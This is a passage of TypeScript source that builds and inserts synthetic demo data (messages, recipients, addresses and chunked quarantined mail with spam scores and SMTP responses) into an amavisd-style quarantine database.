    const ofCcat = slots.filter((s) => s.ccat === ccat);
    const scenarios = allocate(rng, ofCcat.length, SCENARIOS[ccat]);
    ofCcat.forEach((s, i) => {
      s.scenario = scenarios[i] ?? null;
    });
  }
  for (let i = 0; i < logged; i++) {
    slots.push({
      time: timeIn14Days(),
      kind: 'logged',
      ccat: i % 4 === 3 ? 'Y' : 'C',
      amId: '',
      big: false,
      huge: false,
      chunks: 1,
      recipients: 1,
      foreign: false,
      scenario: i % 4 === 3 ? SPAMMY.seo : CLEAN.meeting,
    });
  }
  slots.push({
    time: nowSec - 2,
    kind: 'processing',
    ccat: null,
    amId: '',
    big: false,
    huge: false,
    chunks: 1,
    recipients: 1,
    foreign: false,
    scenario: CLEAN.meeting,
  });
  slots.sort((a, b) => a.time - b.time);
  // am_id: amavisd child pid and its message counter; children retire after 20 messages.
  const children = Array.from({ length: 4 }, () => ({ pid: rng.int(10000, 65000), n: rng.int(0, 12) }));
  for (const slot of slots) {
    const child = rng.pick(children);
    if (child.n >= 20) {
      child.pid = rng.int(10000, 65000);
      child.n = 0;
    }
    child.n += 1;
    slot.amId = `${String(child.pid).padStart(5, '0')}-${String(child.n).padStart(2, '0')}`;
  }
  return slots;
}

async function buildDataset(count: number, seed: number, now: Date): Promise<Dataset> {
  const rng = new Random(seed);
  const nowSec = Math.floor(now.getTime() / 1000);
  const slots = planSlots(rng, count, nowSec);
  const takenIds = new Set<string>();
  const addresses = new Map<string, number>();
  const maddr: Dataset['maddr'] = [];
  const addressIndex = (address: string): number => {
    const email = normaliseAddress(address);
    let index = addresses.get(email);
    if (index === undefined) {
      index = maddr.length;
      maddr.push({ email, domain: reversedDomain(email) });
      addresses.set(email, index);
    }
    return index;
  };
  const msgs: MsgsRow[] = [];
  const msgrcpt: MsgrcptRow[] = [];
  const quarantine: QuarantineRow[] = [];
  // sid/rid hold maddr *indexes* until the ids are known (see seedDemoData).
  const quarantinedRecipients: MsgrcptRow[] = [];

  for (const slot of slots) {
    const ccat = slot.ccat;
    const { mailId, secretId } = generateMailId(rng, takenIds);
    const rcpts = pickRecipients(rng, slot.recipients, slot.foreign);
    // base64 turns 57 bytes into 77 (with the LF): about 0.72 raw bytes per stored byte.
    const bigSize = slot.huge
      ? rng.int(143000, 147000)
      : Math.floor(((slot.chunks - 1) * QUARANTINE_CHUNK_SIZE + rng.int(1500, 10500)) * 0.72);
    const scenario: Scenario = slot.scenario ?? CLEAN.meeting;
    const spec = scenario({ rng, to: rcpts[0] as LocalUser, big: slot.big, bigSize, time: slot.time });
    if (slot.big && !spec.singlePart && !(spec.attachments ?? []).some((a) => a.content.length >= bigSize)) {
      // scenarios without a large attachment of their own get a generic one
      spec.attachments = [
        ...(spec.attachments ?? []),
        {
          filename: 'document.pdf',
          content: fakePdf(rng, bigSize, 'Document'),
          contentType: 'application/pdf',
        },
      ];
    }
    const client = clientAddress(rng);
    const composed = await compose(rng, spec, rcpts, slot.time, client);
    const envelopeFrom = spec.envelopeFrom ?? spec.from.address;
    const sid = addressIndex(envelopeFrom);
    const size = smtpSize(composed.original);
    const base = {
      partitionTag: 0,
      mailId,
      secretId,
      amId: slot.amId,
      timeNum: slot.time,
      timeIso: new Date(slot.time * 1000),
      sid,
      policy: '',
      clientAddr: client,
      size,
      originating: 'N',
      host: DEMO_HOST,
    } satisfies MsgsRow;

    if (slot.kind === 'processing' || ccat === null) {
      // save_info_preliminary only: content and the rest are still NULL/defaults, no msgrcpt rows yet.
      msgs.push({ ...base, content: null, quarType: null, dsnSent: null, spamLevel: null });
      continue;
    }

    const sa = scoreFor(rng, ccat, spec.gtube === true);
    // Per-recipient boosts (soft-whitelisting and the like) for extra recipients of spam.
    const bspam = rcpts.map((_, i) =>
      sa === null
        ? null
        : i > 0 && ccat === 'S' && rng.chance(0.25)
          ? Number((sa.score - 3).toFixed(3))
          : sa.score,
    );
    const quarantined = slot.kind === 'quarantined';
    const rcptRows: MsgrcptRow[] = rcpts.map((rcpt, i) => {
      const level = bspam[i] ?? null;
      let content: string = ccat;
      if (ccat === 'S' && level !== null && level < KILL_LEVEL) content = 'Y';
      const { ds, smtpResp } = quarantined
        ? delivery(rng, ccat, content, slot.amId, spec.reason)
        : {
            ds: 'P',
            smtpResp: `250 2.0.0 from MTA(smtp:[127.0.0.1]:10025): 250 2.0.0 Ok: queued as ${rng.alnum(12)}`,
          };
      return {
        partitionTag: 0,
        mailId,
        rseqnum: i + 1,
        rid: addressIndex(rcpt.address),
        isLocal: FOREIGN_RECIPIENTS.includes(rcpt) ? 'N' : 'Y',
        content,
        ds,
        rs: ' ',
        bl: 'N',
        wl: 'N',
        bspamLevel: level,
        smtpResp,
      } satisfies MsgrcptRow;
    });
    if (quarantined && ccat === 'S' && rng.chance(0.03)) for (const r of rcptRows) r.bl = 'Y';
    msgrcpt.push(...rcptRows);
    if (quarantined) quarantinedRecipients.push(...rcptRows);

    const levels = bspam.filter((v): v is number => v !== null);
    const from = cutUtf8(decodeHeaderValue(composed.fromHeader), 255);
    const subject = cutUtf8(decodeHeaderValue(composed.subjectHeader), 255);
    msgs.push({
      ...base,
      content: ccat,
      quarType: quarantined ? 'Q' : slot.time % 2 === 0 ? ' ' : '',
      quarLoc: quarantined ? mailId : '',
      dsnSent: rcptRows.some((r) => r.ds === 'B') ? 'Y' : 'N',
      spamLevel: levels.length > 0 ? Math.min(...levels) : null,
      messageId: cutUtf8(composed.messageId, 255),
      fromAddr: from,
      subject,
    });
    if (!quarantined) continue;

    const blocked = rcpts.filter((_, i) => ['D', 'B', 'R'].includes(rcptRows[i]?.ds ?? ''));
    const autolearn =
      sa === null ? 'no' : sa.score >= 12 ? 'spam' : sa.score < 0.1 && rng.chance(0.5) ? 'ham' : 'no';
    const prefix = amavisHeaders({
      envelopeFrom,
      rcpts,
      blocked,
      mailId,
      alert: spec.alert,
      sa,
      time: slot.time,
      autolearn,
    });
    const raw = Buffer.concat([Buffer.from(prefix, 'latin1'), composed.original]);
    chunk(raw).forEach((text, i) => {
      quarantine.push({ partitionTag: 0, mailId, chunkInd: i + 1, mailText: text });
    });
  }

  const rsValues = allocate(rng, quarantinedRecipients.length, RS_MIX);
  quarantinedRecipients.forEach((r, i) => {
    r.rs = rsValues[i] ?? ' ';
  });
  return { maddr, msgs, msgrcpt, quarantine };
}

function delivery(
  rng: Random,
  ccat: Ccat,
  rcptContent: string,
  amId: string,
  reason = 'spam',
): { ds: string; smtpResp: string } {
  const passed = `250 2.0.0 from MTA(smtp:[127.0.0.1]:10025): 250 2.0.0 Ok: queued as ${rng.alnum(12)}`;
  const discarded = `250 2.7.0 Ok, discarded, id=${amId} - ${reason}`;
  switch (ccat) {
    case 'S':
      return rcptContent === 'S' ? { ds: 'D', smtpResp: discarded } : { ds: 'P', smtpResp: passed };
    case 'V':
    case 'B':
      return { ds: 'D', smtpResp: discarded };
    case 'Y':
    case 's':
      return rng.chance(0.8) ? { ds: 'P', smtpResp: passed } : { ds: 'D', smtpResp: discarded };
    case 'O':
      return { ds: 'B', smtpResp: `250 2.5.0 Ok, id=${amId}, BOUNCE` };
    case 'T':
      return {
        ds: 'T',
        smtpResp: `451 4.5.0 From MTA(smtp:[127.0.0.1]:10025) during fwd-connect (Connection refused), id=${amId}`,
      };
    default:
      return { ds: 'P', smtpResp: passed };
  }
}

// ---------------------------------------------------------------------------------------------------
// Insertion

function batches<T>(rows: T[], size: (row: T) => number = () => 0): T[][] {
  const out: T[][] = [];
  let current: T[] = [];
  let bytes = 0;
  for (const row of rows) {
    const s = size(row);
    if (current.length >= BATCH_ROWS || (current.length > 0 && bytes + s > BATCH_BYTES)) {
      out.push(current);
      current = [];
      bytes = 0;
    }
    current.push(row);
    bytes += s;
  }
  if (current.length > 0) out.push(current);
  return out;
}

/**
 * Writes the demo dataset in one transaction: maddr rows first (explicit ids after the current
 * maximum, reusing addresses that already exist), then msgs, msgrcpt and quarantine.
 */
export async function seedDemoData(
  store: { connection: Connection; t: AmavisTables },
  options: DemoOptions = {},
): Promise<DemoSummary> {
  const count = Math.max(0, Math.floor(options.messages ?? 300));
  const seed = options.seed ?? 1;
  const now = options.now ?? new Date();
  const data = await buildDataset(count, seed, now);
  const { connection, t } = store;

  await connection.db.transaction(async (tx) => {
    const existing = await tx
      .select({ id: t.maddrTable.id, email: t.maddrTable.email })
      .from(t.maddrTable)
      .where(sql`${t.maddrTable.partitionTag} = 0`);
    const known = new Map(existing.map((r) => [Buffer.from(r.email).toString('latin1'), Number(r.id)]));
    const [top] = await tx.select({ id: max(t.maddrTable.id) }).from(t.maddrTable);
    let nextId = Number(top?.id ?? 0) + 1;
    const ids: number[] = [];
    const newRows: MaddrRow[] = [];
    for (const a of data.maddr) {
      const key = Buffer.from(a.email, 'utf8').toString('latin1');
      let id = known.get(key);
      if (id === undefined) {
        id = nextId++;
        newRows.push({ id, partitionTag: 0, email: Buffer.from(a.email, 'utf8'), domain: a.domain });
      }
      ids.push(id);
    }
    const idOf = (index: number) => {
      const id = ids[index];
      if (id === undefined) throw new Error(`demo data: no maddr id for index ${index}`);
      return id;
    };
    for (const rows of batches(newRows)) await tx.insert(t.maddrTable).values(rows);
    if (connection.dialect === 'pg' && newRows.length > 0) {
      await tx.execute(
        sql`select setval(pg_get_serial_sequence('maddr', 'id'), (select max(id) from maddr))`,
      );
    }
    for (const rows of batches(data.msgs.map((m) => ({ ...m, sid: idOf(m.sid) })))) {
      await tx.insert(t.msgsTable).values(rows);
    }
    for (const rows of batches(data.msgrcpt.map((r) => ({ ...r, rid: idOf(r.rid) })))) {
      await tx.insert(t.msgrcptTable).values(rows);
    }
    for (const rows of batches(data.quarantine, (q) => q.mailText.length)) {
      await tx.insert(t.quarantineTable).values(rows);
    }
  });

  return {
    messages: data.msgs.length,
    recipients: data.msgrcpt.length,
    quarantined: new Set(data.quarantine.map((q) => q.mailId)).size,
    chunks: data.quarantine.length,
  };
}
